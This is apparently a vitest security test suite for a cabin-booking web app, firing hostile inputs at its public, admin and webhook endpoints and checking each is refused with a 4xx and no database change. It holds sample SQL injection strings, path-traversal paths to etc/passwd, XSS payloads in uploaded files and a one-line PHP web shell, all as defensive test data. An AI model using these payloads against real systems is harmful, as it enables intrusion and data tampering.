/**
 * Hostile input against every public endpoint and every admin write ([api.errors],
 * [validation.text], [validation.numbers]): wrong types, missing fields, broken or oversized
 * bodies, other content types, Unicode edge cases, SQL and HTML payloads, path traversal and
 * files that are not images. Each is answered 4xx
 * with a JSON `{error}` — never 500 — and leaves every table as it was (a full dump before and
 * after; the security log and session timestamps aside, see `snapshotDatabase`).
 *
 * Requests go over real HTTP (node:http), so bodies, headers and paths reach the server exactly
 * as written: no client normalises `..`, sets a content type or re-encodes a byte.
 */
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import Stripe from 'stripe';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { bookingsCsv, priceStay, type Booking } from '@ridgeline/core';
import { createStripeGateway } from '@ridgeline/core/node';
import { snapshotDatabase } from '../test-support/db-snapshot.js';
import { concretePath, registeredRoutes } from '../test-support/routes.js';
import {
  BAD_NUMBERS,
  HOSTILE_STRINGS,
  SAFE_TEXT,
  UNSAFE_TEXT,
  WRONG_TYPES,
  rawBodyAttacks,
  type HostileStringName,
} from '../test-support/hostile-values.js';
import { startStripeStandIn, type StripeStandIn } from '../test-support/stripe-stand-in.js';
import { TEST_ADMIN_PASSWORD, TEST_SECURITY_PASSWORD, createTestApp, setTestPasswords } from '../test-support/test-app.js';
import { PUBLIC_CONTENT_CHANGED_KEY } from '../pages/sitemap.js';

// 2026-11-21 15:00 UTC is 10:00 in Blue Ridge: the stay below is three weeks ahead.
const NOW = new Date('2026-11-21T15:00:00Z');
const STAY = { checkin: '2026-12-10', checkout: '2026-12-12', guests: 4 };
const GUEST = { firstName: 'Ann', lastName: 'Lee', email: 'ann@example.com', phone: '555-0100', message: 'Hi!', specialRequests: '' };
const TOTAL_DOLLARS = priceStay(STAY.checkin, STAY.checkout)!.totalCents / 100;
const WEBHOOK_SECRET = 'whsec_hostile_suite';

// ---------------------------------------------------------------------------------------------
// A server on a real port and raw HTTP requests to it.

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  text: string;
  bytes: Buffer;
}

interface Raw {
  method: string;
  path: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
}

let ipCounter = 0;
/** A fresh client address per request (TRUST_PROXY=1), so no throttle hides what a request does. */
const nextIp = () => {
  ipCounter += 1;
  return `10.${(ipCounter >> 16) & 255}.${(ipCounter >> 8) & 255}.${ipCounter & 255}`;
};

function send(origin: string, { method, path: target, headers = {}, body }: Raw): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const url = new URL(origin);
    const payload = body === undefined ? undefined : Buffer.isBuffer(body) ? body : Buffer.from(body, 'utf8');
    const req = httpRequest(
      {
        host: url.hostname,
        port: url.port,
        method,
        path: target,
        headers: {
          'X-Forwarded-For': nextIp(),
          ...(payload ? { 'Content-Length': String(payload.length) } : {}),
          ...headers,
        },
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => {
          const bytes = Buffer.concat(chunks);
          resolve({ status: res.statusCode ?? 0, headers: res.headers, text: bytes.toString('utf8'), bytes });
        });
        res.on('error', reject);
      },
    );
    req.on('error', reject);
    req.end(payload);
  });
}

type TestApp = ReturnType<typeof createTestApp>;

interface Served {
  t: TestApp;
  origin: string;
  close: () => Promise<void>;
}

async function serve(t: TestApp): Promise<Served> {
  const server = t.app.listen(0, '127.0.0.1');
  await new Promise<void>((resolve) => server.once('listening', () => resolve()));
  const { port } = server.address() as AddressInfo;
  return {
    t,
    origin: `http://127.0.0.1:${port}`,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** A signed-in session's cookie for `area`. */
async function sessionCookie(s: Served, area: 'admin' | 'security'): Promise<string> {
  const res = await send(s.origin, {
    method: 'POST',
    path: area === 'admin' ? '/api/auth/login' : '/api/security/login',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ password: area === 'admin' ? TEST_ADMIN_PASSWORD : TEST_SECURITY_PASSWORD }),
  });
  const cookie = ([] as string[]).concat(res.headers['set-cookie'] ?? [])[0];
  if (res.status !== 200 || !cookie) throw new Error(`sign-in failed: ${res.status} ${res.text}`);
  return cookie.split(';')[0] as string;
}

/**
 * Sends `raw` and checks the refusal: a 4xx status (or exactly `status`), a JSON body with a
 * non-empty `error` message, and not one row changed.
 */
async function expectRefused(s: Served, raw: Raw, status?: number, what = ''): Promise<Answer> {
  const before = snapshotDatabase(s.t.db);
  const res = await send(s.origin, raw);
  const label = `${what ? `${what}: ` : ''}${raw.method} ${raw.path.slice(0, 120)} → ${res.status} ${res.text.slice(0, 200)}`;
  if (status !== undefined) expect(res.status, label).toBe(status);
  expect(res.status, label).toBeGreaterThanOrEqual(400);
  expect(res.status, label).toBeLessThan(500);
  expect(String(res.headers['content-type']), label).toMatch(/^application\/json/);
  const { error } = JSON.parse(res.text) as { error?: unknown };
  expect(typeof error, label).toBe('string');
  expect((error as string).length, label).toBeGreaterThan(0);
  expect(snapshotDatabase(s.t.db), `${label}: the database changed`).toEqual(before);
  return res;
}

/** Sends `raw` to an endpoint that reads no input: any answer below 500, nothing changed. */
async function expectHarmless(s: Served, raw: Raw): Promise<Answer> {
  const before = snapshotDatabase(s.t.db);
  const res = await send(s.origin, raw);
  const label = `${raw.method} ${raw.path.slice(0, 120)} → ${res.status} ${res.text.slice(0, 200)}`;
  expect(res.status, label).toBeLessThan(500);
  expect(String(res.headers['content-type']), label).toMatch(/^application\/json/);
  if (res.status >= 400) expect(JSON.parse(res.text), label).toHaveProperty('error');
  expect(snapshotDatabase(s.t.db), `${label}: the database changed`).toEqual(before);
  return res;
}

const json = (method: string, target: string, body: unknown, cookie?: string): Raw => ({
  method,
  path: target,
  headers: { 'Content-Type': 'application/json', ...(cookie ? { Cookie: cookie } : {}) },
  body: JSON.stringify(body),
});

// ---------------------------------------------------------------------------------------------
// What each field of a JSON body must refuse.

/**
 * A field's kind decides which hostile values it must refuse: structured values (dates, counts,
 * ids, e-mail addresses, flags) refuse every hostile string; free text refuses only what
 * corrupts or spoofs (control characters, lone surrogates, bidi controls, overlong text) and
 * keeps SQL, HTML and emoji as plain text (tested below).
 */
type Kind = 'date' | 'count' | 'amount' | 'price' | 'email' | 'line' | 'multiline' | 'flag' | 'piId' | 'choice' | 'password' | 'ipText' | 'note' | 'path' | 'object';
interface Field {
  /** dotted for nested fields (`bookingData.checkin`) */
  name: string;
  kind: Kind;
  required: boolean;
}

const STRUCTURED: readonly Kind[] = ['date', 'count', 'amount', 'price', 'email', 'flag', 'piId', 'choice', 'object'];

/** The values `field` must refuse, each with a name for the test title. */
function badValues(field: Field): [string, unknown][] {
  const out: [string, unknown][] = [];
  const strings = (names: readonly HostileStringName[], prefix = '') => names.map((n): [string, unknown] => [`${prefix}${n}`, `${prefix}${HOSTILE_STRINGS[n]}`]);
  const types = WRONG_TYPES.filter(([, v]) => !(field.kind === 'flag' && typeof v === 'boolean'));
  out.push(...types);
  // An empty string is "not given" for optional text, e-mail and notes.
  const emptyIsValid = field.kind === 'object' || field.kind === 'note' || (!field.required && ['line', 'multiline', 'email'].includes(field.kind));
  if (!emptyIsValid) out.push(['an empty string', '']);
  if (STRUCTURED.includes(field.kind) || field.kind === 'password') {
    out.push(...strings(Object.keys(HOSTILE_STRINGS) as HostileStringName[]));
  }
  switch (field.kind) {
    case 'date':
      out.push(['Feb 30', '2026-02-30'], ['a timestamp', '2026-12-10T00:00:00Z'], ['US order', '12/10/2026'], ['an expanded year', '+002026-12-10'], ['a number', 20261210]);
      break;
    case 'count':
    case 'price':
      out.push(...BAD_NUMBERS.filter(([name]) => !(field.kind === 'price' && name === 'zero')), ['a one-element array', [4]], ['true', true]);
      break;
    case 'amount':
      out.push(...BAD_NUMBERS.filter(([name]) => name !== 'fractional'), ['a one-element array', [TOTAL_DOLLARS]], ['true', true]);
      break;
    case 'line':
    case 'multiline':
      out.push(...strings(UNSAFE_TEXT), ['a number', 42]);
      if (field.kind === 'line') out.push(['a line break', 'two\nlines']);
      break;
    case 'path':
      out.push(...strings(Object.keys(HOSTILE_STRINGS) as HostileStringName[]), ...strings(UNSAFE_TEXT, '/'), ['a number', 42]);
      break;
    case 'ipText':
      out.push(['only spaces', '   '], ['overlong', 'x'.repeat(101)], ['a number', 42]);
      break;
    case 'note':
      out.push(['overlong', 'x'.repeat(301)], ['a number', 42]);
      break;
    case 'piId':
      out.push(['a bare prefix', 'pi_'], ['another object', 'cus_123']);
      break;
    case 'choice':
    case 'flag':
    case 'email':
    case 'password':
    case 'object':
      break;
  }
  if (field.kind === 'flag') out.push(['"true"', 'true'], ['1', 1]);
  return out;
}

function setField(body: Record<string, unknown>, name: string, value: unknown): Record<string, unknown> {
  const copy = structuredClone(body);
  const parts = name.split('.');
  let node = copy;
  for (const part of parts.slice(0, -1)) node = node[part] as Record<string, unknown>;
  const last = parts[parts.length - 1] as string;
  if (value === undefined) delete node[last];
  else node[last] = value;
  return copy;
}

type Attack = [name: string, raw: Raw, status: number | undefined];
/** Attacks grouped for one test each: `[group, attacks]`. */
type AttackGroup = [group: string, attacks: Attack[]];

/** Per field of `valid`: the field missing (when required) and each of its bad values. */
function fieldAttacks(endpoint: JsonEndpoint): AttackGroup[] {
  return endpoint.fields.map((field): AttackGroup => {
    const bodies: [string, Record<string, unknown>][] = [];
    if (field.required) bodies.push(['missing', setField(endpoint.valid, field.name, undefined)]);
    for (const [name, value] of badValues(field)) bodies.push([name, setField(endpoint.valid, field.name, value)]);
    return [field.name, bodies.map(([name, body]): Attack => [`${field.name} = ${name}`, json(endpoint.method, endpoint.path, body), undefined])];
  });
}

/** Runs each attack of a group, so a failure names the attack. */
async function refuseAll(s: Served, attacks: Attack[], headers: Record<string, string> = {}): Promise<void> {
  for (const [name, raw, status] of attacks) await expectRefused(s, { ...raw, headers: { ...raw.headers, ...headers } }, status, name);
}

// ---------------------------------------------------------------------------------------------
// The endpoints.

interface JsonEndpoint {
  method: 'POST' | 'PUT';
  path: string;
  valid: Record<string, unknown>;
  fields: readonly Field[];
}

const bookingDataFields: Field[] = [
  { name: 'bookingData', kind: 'object', required: true },
  { name: 'bookingData.checkin', kind: 'date', required: true },
  { name: 'bookingData.checkout', kind: 'date', required: true },
  { name: 'bookingData.guests', kind: 'count', required: true },
  // A PaymentIntent needs the guest ([checkout.guest-required]).
  { name: 'bookingData.firstName', kind: 'line', required: true },
  { name: 'bookingData.lastName', kind: 'line', required: true },
  { name: 'bookingData.email', kind: 'email', required: true },
  { name: 'bookingData.phone', kind: 'line', required: false },
  { name: 'bookingData.message', kind: 'multiline', required: false },
  { name: 'bookingData.specialRequests', kind: 'multiline', required: false },
];

const PUBLIC_JSON: JsonEndpoint[] = [
  {
    method: 'POST',
    path: '/api/analytics/pageview',
    valid: { path: '/', referrer: '' },
    fields: [
      { name: 'path', kind: 'path', required: true },
      { name: 'referrer', kind: 'line', required: false },
    ],
  },
  {
    method: 'POST',
    path: '/api/booking-inquiry',
    valid: { ...GUEST, location: 'Atlanta, GA', ...STAY },
    fields: [
      { name: 'firstName', kind: 'line', required: true },
      { name: 'lastName', kind: 'line', required: true },
      { name: 'email', kind: 'email', required: true },
      { name: 'phone', kind: 'line', required: false },
      { name: 'location', kind: 'line', required: false },
      { name: 'checkin', kind: 'date', required: true },
      { name: 'checkout', kind: 'date', required: true },
      { name: 'guests', kind: 'count', required: true },
      { name: 'message', kind: 'multiline', required: false },
      { name: 'specialRequests', kind: 'multiline', required: false },
      { name: 'stripePaymentIntentId', kind: 'piId', required: false },
    ],
  },
  ...(['/api/auth/login', '/api/security/login'] as const).map(
    (p): JsonEndpoint => ({
      method: 'POST',
      path: p,
      valid: { password: 'not-the-password' },
      fields: [
        { name: 'password', kind: 'password', required: true },
        { name: 'client', kind: 'choice', required: false },
      ],
    }),
  ),
];

const PAYMENT_INTENT: JsonEndpoint = {
  method: 'POST',
  path: '/api/create-payment-intent',
  valid: { amount: TOTAL_DOLLARS, bookingData: { ...STAY, ...GUEST } },
  fields: [{ name: 'amount', kind: 'amount', required: true }, ...bookingDataFields],
};

const reviewBody = { guestName: 'Ann Lee', email: 'ann@example.com', rating: 5, title: 'Lovely', content: 'We loved it.', stayDate: '2026-10-01', isApproved: false, isPublished: false };

const ADMIN_JSON: JsonEndpoint[] = [
  {
    method: 'POST',
    path: '/api/reviews',
    valid: reviewBody,
    fields: [
      { name: 'guestName', kind: 'line', required: true },
      { name: 'email', kind: 'email', required: true },
      { name: 'rating', kind: 'count', required: true },
      { name: 'title', kind: 'line', required: true },
      { name: 'content', kind: 'multiline', required: true },
      { name: 'stayDate', kind: 'date', required: true },
      { name: 'isApproved', kind: 'flag', required: false },
      { name: 'isPublished', kind: 'flag', required: false },
    ],
  },
  { method: 'PUT', path: '/api/reviews/1', valid: { isApproved: false }, fields: [{ name: 'isApproved', kind: 'flag', required: true }] },
  { method: 'PUT', path: '/api/reviews/1', valid: { isPublished: false }, fields: [{ name: 'isPublished', kind: 'flag', required: true }] },
  {
    method: 'PUT',
    path: '/api/availability/2026-12-01',
    valid: { price: 300, isAvailable: true, isBlocked: false },
    fields: [
      { name: 'price', kind: 'price', required: true },
      { name: 'isAvailable', kind: 'flag', required: true },
      { name: 'isBlocked', kind: 'flag', required: true },
    ],
  },
  { method: 'POST', path: '/api/availability/bulk', valid: { price: 300 }, fields: [{ name: 'price', kind: 'price', required: true }] },
  { method: 'POST', path: '/api/test-payment', valid: { bookingId: 1 }, fields: [{ name: 'bookingId', kind: 'count', required: true }] },
  { method: 'POST', path: '/api/test-guide-app', valid: { bookingId: 1 }, fields: [{ name: 'bookingId', kind: 'count', required: true }] },
];

const SECURITY_JSON: JsonEndpoint[] = ['/api/security/block-ip', '/api/security/unblock-ip'].map((p) => ({
  method: 'POST',
  path: p,
  valid: { ip: '203.0.113.77', reason: 'test' },
  fields: [
    { name: 'ip', kind: 'ipText', required: true },
    { name: 'reason', kind: 'note', required: false },
  ],
}));

/** Every attack on a JSON endpoint: the raw bodies, then each field's bad values. */
function jsonAttacks(endpoint: JsonEndpoint): AttackGroup[] {
  const raw = rawBodyAttacks(endpoint.valid).map(({ name, contentType, contentEncoding, body, status }): Attack => [
    name,
    {
      method: endpoint.method,
      path: endpoint.path,
      headers: { ...(contentType ? { 'Content-Type': contentType } : {}), ...(contentEncoding ? { 'Content-Encoding': contentEncoding } : {}) },
      body,
    },
    status,
  ]);
  return [['bodies that are not a JSON object of the right shape', raw], ...fieldAttacks(endpoint)];
}

/** encodeURIComponent, except that a lone surrogate is sent as its WTF-8 bytes (a client can). */
const encodeValue = (value: string) =>
  value.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]|[^\ud800-\udfff]+|[\ud800-\udbff][\udc00-\udfff]/g, (part) => {
    if (part.length !== 1 || !/[\ud800-\udfff]/.test(part)) return encodeURIComponent(part);
    const c = part.charCodeAt(0);
    return [0xe0 | (c >> 12), 0x80 | ((c >> 6) & 63), 0x80 | (c & 63)].map((b) => `%${b.toString(16).toUpperCase()}`).join('');
  });

const queryString = (params: Record<string, unknown>) =>
  Object.entries(params)
    .flatMap(([k, v]) => (v === undefined ? [] : Array.isArray(v) ? v.map((x) => `${k}=${encodeValue(String(x))}`) : [`${k}=${encodeValue(String(v))}`]))
    .join('&');

/** Query attacks per parameter: missing, repeated, nested, and set to each hostile string. */
function queryAttacks(base: string, valid: Record<string, string>, kinds: Record<string, 'date' | 'count'>): AttackGroup[] {
  const get = (name: string, target: string): Attack => [name, { method: 'GET', path: target }, undefined];
  const groups: AttackGroup[] = [['no query', [get('no query', base)]]];
  for (const [name, kind] of Object.entries(kinds)) {
    const withValue = (v: unknown) => `${base}?${queryString({ ...valid, [name]: v })}`;
    const others = queryString({ ...valid, [name]: undefined });
    const attacks: Attack[] = [
      get('missing', withValue(undefined)),
      get('repeated', withValue([valid[name], valid[name]])),
      get('nested', `${base}?${others}&${name}[$gt]=1`),
      get('empty', withValue('')),
      get('a broken percent-escape', `${base}?${others}&${name}=%E0%A4%A`),
      get('an encoded lone surrogate', `${base}?${others}&${name}=%ED%A0%80`),
    ];
    for (const [label, value] of Object.entries(HOSTILE_STRINGS)) attacks.push(get(label, withValue(value)));
    if (kind === 'date') attacks.push(get('Feb 30', withValue('2026-02-30')), get('a timestamp', withValue('2026-12-10T00:00:00Z')));
    if (kind === 'count') {
      for (const [label, value] of BAD_NUMBERS) attacks.push(get(label, withValue(value)));
      attacks.push(get('1e999', withValue('1e999')), get('Infinity', withValue('Infinity')));
    }
    groups.push([name, attacks]);
  }
  return groups;
}

// ---------------------------------------------------------------------------------------------

let stripe: StripeStandIn;
beforeAll(async () => {
  stripe = await startStripeStandIn();
});
afterAll(async () => {
  await stripe.close();
});

function buildApp(options: { payments: boolean }) {
  const payments = options.payments ? createStripeGateway({ secretKey: stripe.secretKey, webhookSecret: WEBHOOK_SECRET, apiBase: stripe.url }) : undefined;
  const guideCalls: unknown[] = [];
  const t = createTestApp(
    // The limits themselves are tested in their own suites; here every attack must meet validation.
    { TRUST_PROXY: '1', RATE_LIMIT_MAX: '1000000', PAYMENT_INTENT_LIMIT: '1000000', GUIDE_APP_URL: 'http://127.0.0.1:9/guide' },
    {},
    () => NOW,
    {
      ...(payments ? { payments } : {}),
      fetch: (async (...args: Parameters<typeof fetch>) => {
        guideCalls.push(args);
        return new Response('{}', { status: 200 });
      }) as typeof fetch,
    },
  );
  return { t, guideCalls };
}

describe('public endpoints without payments', () => {
  let s: Served;
  beforeAll(async () => {
    const { t } = buildApp({ payments: false });
    await setTestPasswords(t.db);
    s = await serve(t);
  });
  afterAll(async () => {
    await s.close();
    s.t.cleanup();
  });

  for (const endpoint of [...PUBLIC_JSON, PAYMENT_INTENT]) {
    describe(`${endpoint.method} ${endpoint.path}`, () => {
      it.each(jsonAttacks(endpoint))('%s → 4xx each, nothing changed', async (_group, attacks) => {
        await refuseAll(s, attacks);
      });
    });
  }

  describe('GET /api/quote', () => {
    it.each(queryAttacks('/api/quote', { checkin: STAY.checkin, checkout: STAY.checkout, guests: '4' }, { checkin: 'date', checkout: 'date', guests: 'count' }))(
      '%s → 4xx each',
      async (_group, attacks) => {
        await refuseAll(s, attacks);
      },
    );
  });

  describe('GET /api/availability/public', () => {
    it.each(queryAttacks('/api/availability/public', { startDate: '2026-12-01', endDate: '2026-12-31' }, { startDate: 'date', endDate: 'date' }))(
      '%s → 4xx each',
      async (_group, attacks) => {
        await refuseAll(s, attacks);
      },
    );
    it('refuses a range longer than 400 days or reversed', async () => {
      await expectRefused(s, { method: 'GET', path: '/api/availability/public?startDate=2026-01-01&endDate=2028-01-01' }, 400);
      await expectRefused(s, { method: 'GET', path: '/api/availability/public?startDate=2026-12-31&endDate=2026-12-01' }, 400);
    });
  });

  describe('endpoints that read no input', () => {
    const targets = ['/api/images/config', '/api/reviews/published', '/api/health', '/api/payments/config', '/api/auth/session', '/api/security/session'];
    const junk = `?${queryString({ q: HOSTILE_STRINGS.sqlDrop, h: HOSTILE_STRINGS.htmlScript, u: HOSTILE_STRINGS.loneHighSurrogate })}&x=%ED%A0%80&y[$ne]=1&__proto__[polluted]=1`;
    it.each(targets)('%s ignores a hostile query, headers and a broken body, changing nothing', async (target) => {
      const ok = await expectHarmless(s, { method: 'GET', path: `${target}${junk}`, headers: { Cookie: `rl_admin_session=${encodeURIComponent("' OR 1=1 --")}`, Authorization: 'Bearer <script>', 'X-Request-Id': '<script>' } });
      expect(ok.status).toBe(200);
      expect(ok.headers['x-request-id']).not.toBe('<script>');
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      await expectRefused(s, { method: 'GET', path: target, headers: { 'Content-Type': 'application/json' }, body: '{"broken":' }, 400);
      await expectRefused(s, { method: 'POST', path: target, headers: { 'Content-Type': 'application/json' }, body: '{}' }, 404);
    });
  });

  it('a valid create-payment-intent request says payments are unavailable (503), after validation', async () => {
    const res = await send(s.origin, json('POST', '/api/create-payment-intent', PAYMENT_INTENT.valid));
    expect(res.status).toBe(503);
    expect(JSON.parse(res.text).error).toMatch(/not available/);
  });
});

describe('public endpoints with payments (the Stripe stand-in)', () => {
  let s: Served;
  beforeAll(async () => {
    const { t } = buildApp({ payments: true });
    s = await serve(t);
  });
  afterAll(async () => {
    await s.close();
    s.t.cleanup();
  });
  beforeEach(() => {
    stripe.requests.length = 0;
  });
  afterEach(() => {
    // Nothing hostile may reach Stripe either.
    expect(stripe.requests.filter((r) => r.method === 'POST')).toEqual([]);
  });

  describe('POST /api/create-payment-intent', () => {
    it.each(jsonAttacks(PAYMENT_INTENT))('%s → 4xx each, no hold, no PaymentIntent', async (_group, attacks) => {
      await refuseAll(s, attacks);
    });
    it('an amount other than the server quote → 409, no hold, no PaymentIntent', async () => {
      await expectRefused(s, json('POST', '/api/create-payment-intent', { ...PAYMENT_INTENT.valid, amount: 1 }), 409);
    });
  });

  describe('POST /api/booking-inquiry with a PaymentIntent id', () => {
    it.each([
      ['an id this site never created', 'pi_unknown123'],
      ['an id with SQL after it', "pi_1' OR '1'='1"],
      ['an id with a path', 'pi_../../v1/charges'],
    ])('%s → 4xx', async (_name, id) => {
      await expectRefused(s, json('POST', '/api/booking-inquiry', { ...GUEST, ...STAY, stripePaymentIntentId: id }));
    });
  });

  describe('POST /api/stripe/webhook', () => {
    const event = JSON.stringify({ id: 'evt_hostile', object: 'event', type: 'payment_intent.succeeded', data: { object: { id: 'pi_x', object: 'payment_intent', status: 'succeeded', amount: 1 } } });
    const signer = new Stripe('sk_test_x');
    const header = (payload: string, secret = WEBHOOK_SECRET, timestamp?: number) =>
      signer.webhooks.generateTestHeaderString({ payload, secret, ...(timestamp ? { timestamp } : {}) });
    const cases: [string, Raw, number][] = [
      ['no signature', { method: 'POST', path: '/api/stripe/webhook', headers: { 'Content-Type': 'application/json' }, body: event }, 400],
      ['a garbage signature', { method: 'POST', path: '/api/stripe/webhook', headers: { 'Content-Type': 'application/json', 'Stripe-Signature': 't=1,v1=<script>' }, body: event }, 400],
      ['a signature made with another secret', { method: 'POST', path: '/api/stripe/webhook', headers: { 'Stripe-Signature': header(event, 'whsec_other') }, body: event }, 400],
      ['a signature of another body', { method: 'POST', path: '/api/stripe/webhook', headers: { 'Stripe-Signature': header('{}') }, body: event }, 400],
      ['a replayed signature an hour old', { method: 'POST', path: '/api/stripe/webhook', headers: { 'Stripe-Signature': header(event, WEBHOOK_SECRET, Math.floor(Date.now() / 1000) - 3600) }, body: event }, 400],
      ['no body', { method: 'POST', path: '/api/stripe/webhook', headers: { 'Stripe-Signature': header('') } }, 400],
      ['invalid JSON, signed', { method: 'POST', path: '/api/stripe/webhook', headers: { 'Stripe-Signature': header('{"id":') }, body: '{"id":' }, 400],
      ['gzip that is not gzip', { method: 'POST', path: '/api/stripe/webhook', headers: { 'Content-Encoding': 'gzip', 'Stripe-Signature': header(event) }, body: event }, 400],
      ['a body over 1 MB', { method: 'POST', path: '/api/stripe/webhook', headers: { 'Content-Type': 'application/json', 'Stripe-Signature': 't=1,v1=x' }, body: 'x'.repeat(1024 * 1024 + 10) }, 413],
    ];
    it.each(cases)('%s → 4xx, no event recorded', async (_name, raw, status) => {
      await expectRefused(s, raw, status);
    });
  });
});

describe('admin and security-console writes with a valid session', () => {
  let s: Served;
  let admin: string;
  let security: string;
  let guideCalls: unknown[];
  const uploadsDir = () => path.join(s.t.config.dataDir, 'uploads');
  const uploads = () => {
    try {
      return readdirSync(uploadsDir()).sort();
    } catch {
      return [];
    }
  };

  beforeAll(async () => {
    const built = buildApp({ payments: true });
    guideCalls = built.guideCalls;
    await setTestPasswords(built.t.db);
    s = await serve(built.t);
    admin = await sessionCookie(s, 'admin');
    security = await sessionCookie(s, 'security');
  });
  afterAll(async () => {
    await s.close();
    s.t.cleanup();
  });
  afterEach(() => {
    expect(guideCalls).toEqual([]);
    expect(stripe.requests.filter((r) => r.method === 'POST')).toEqual([]);
  });

  for (const endpoint of ADMIN_JSON) {
    describe(`${endpoint.method} ${endpoint.path} (${endpoint.fields.map((f) => f.name).join(', ')})`, () => {
      it.each(jsonAttacks(endpoint))('%s → 4xx each, nothing changed', async (_group, attacks) => {
        await refuseAll(s, attacks, { Cookie: admin });
      });
    });
  }

  for (const endpoint of SECURITY_JSON) {
    describe(`${endpoint.method} ${endpoint.path}`, () => {
      it.each(jsonAttacks(endpoint))('%s → 4xx each, nothing blocked or unblocked', async (_group, attacks) => {
        await refuseAll(s, attacks, { Cookie: security });
      });
    });
  }

  describe('path parameters', () => {
    const badIds = ['0', '-1', '1.5', '0x1', '1e0', '%201', '1%20', '1%00', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', "1'%20OR%20'1'%3D'1", '1%3BDROP%20TABLE%20reviews', '9'.repeat(400), '%F0%9F%94%A5', '%ED%A0%80', '%E0%A4%A', '__proto__'];
    it.each(badIds)('PUT and DELETE /api/reviews/%s → 4xx, nothing changed', async (id) => {
      await expectRefused(s, json('PUT', `/api/reviews/${id}`, { isApproved: true }, admin));
      await expectRefused(s, { method: 'DELETE', path: `/api/reviews/${id}`, headers: { Cookie: admin } });
    });
    const badDates = ['2026-02-30', '2026-12-1', '20261201', '2026-12-01T00:00', '..%2f..%2fsecrets', '2026-12-01%00', "2026-12-01'--", '%ED%A0%80', '%E0%A4%A'];
    it.each(badDates)('PUT /api/availability/%s → 4xx, nothing changed', async (date) => {
      await expectRefused(s, json('PUT', `/api/availability/${date}`, { price: 300, isAvailable: true, isBlocked: false }, admin));
    });
    const badKeys = ['slide0', 'slide33', 'slide01', 'hero', '..%2fslide1', 'slide1%00', '__proto__', 'constructor', '%ED%A0%80', '%E0%A4%A'];
    it.each(badKeys)('PUT and DELETE /api/images/slots/%s → 4xx, nothing changed', async (key) => {
      await expectRefused(s, { method: 'PUT', path: `/api/images/slots/${key}`, headers: { Cookie: admin } });
      await expectRefused(s, { method: 'DELETE', path: `/api/images/slots/${key}`, headers: { Cookie: admin } });
    });
    it('GET /api/security/events refuses a limit that is not 1..500', async () => {
      for (const limit of ['0', '-5', '501', '1.5', 'abc', '1e999', '%27%20OR%201%3D1']) {
        await expectRefused(s, { method: 'GET', path: `/api/security/events?limit=${limit}`, headers: { Cookie: security } }, 400);
      }
    });
  });

  describe('POST /api/upload-image', () => {
    const boundary = '----ridgelinehostile';
    /** A multipart body, written by hand so nothing fixes it up. */
    const multipart = (parts: { name: string; filename?: string; type?: string; data: string | Buffer }[], end = true) =>
      Buffer.concat([
        ...parts.flatMap((p) => [
          Buffer.from(
            `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}\r\n${p.type ? `Content-Type: ${p.type}\r\n` : ''}\r\n`,
          ),
          Buffer.isBuffer(p.data) ? p.data : Buffer.from(p.data),
          Buffer.from('\r\n'),
        ]),
        Buffer.from(end ? `--${boundary}--\r\n` : ''),
      ]);
    const upload = (body: Buffer, contentType = `multipart/form-data; boundary=${boundary}`): Raw => ({
      method: 'POST',
      path: '/api/upload-image',
      headers: { 'Content-Type': contentType, Cookie: admin },
      body,
    });
    let png: Buffer;
    beforeAll(async () => {
      png = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#2a6' } }).png().toBuffer();
    });

    const files: [string, () => { filename: string; type: string; data: Buffer }][] = [
      ['text renamed .jpg', () => ({ filename: 'photo.jpg', type: 'image/jpeg', data: Buffer.from('just some text, not a photo\n') })],
      ['PHP renamed .png', () => ({ filename: 'shell.png', type: 'image/png', data: Buffer.from('<?php system($_GET["c"]); ?>') })],
      ['an SVG with a script', () => ({ filename: 'logo.svg', type: 'image/svg+xml', data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>window.__xss=1</script><rect width="10" height="10"/></svg>') })],
      ['an SVG with a script renamed .png', () => ({ filename: 'logo.png', type: 'image/png', data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1" width="10" height="10"/>') })],
      ['an HTML page renamed .png', () => ({ filename: 'page.png', type: 'image/png', data: Buffer.from('<!doctype html><script>window.__xss=1</script>') })],
      ['a truncated PNG', () => ({ filename: 'cut.png', type: 'image/png', data: png.subarray(0, Math.floor(png.length / 2)) })],
      ['a PNG header only', () => ({ filename: 'head.png', type: 'image/png', data: png.subarray(0, 33) })],
      ['a GIF header with a script', () => ({ filename: 'x.gif', type: 'image/gif', data: Buffer.from('GIF89a/*<script>window.__xss=1</script>*/') })],
      ['an empty file', () => ({ filename: 'empty.jpg', type: 'image/jpeg', data: Buffer.alloc(0) })],
    ];
    it.each(files)('%s → 400, no file stored, no slot changed', async (_name, file) => {
      const before = uploads();
      const res = await expectRefused(s, upload(multipart([{ name: 'imageId', data: 'hero' }, { name: 'image', ...file() }])), 400);
      expect(JSON.parse(res.text)).toMatchObject({ success: false, field: 'image' });
      expect(uploads()).toEqual(before);
    });

    const forms: [string, () => Buffer, string?][] = [
      ['a traversal slot id', () => multipart([{ name: 'imageId', data: '../../etc/passwd' }, { name: 'image', filename: 'a.png', type: 'image/png', data: png }])],
      ['a slot id with NUL', () => multipart([{ name: 'imageId', data: 'hero\u0000' }, { name: 'image', filename: 'a.png', type: 'image/png', data: png }])],
      ['a slot id of __proto__', () => multipart([{ name: 'imageId', data: '__proto__' }, { name: 'image', filename: 'a.png', type: 'image/png', data: png }])],
      ['the slot id twice', () => multipart([{ name: 'imageId', data: 'hero' }, { name: 'imageId', data: 'overview' }, { name: 'image', filename: 'a.png', type: 'image/png', data: png }])],
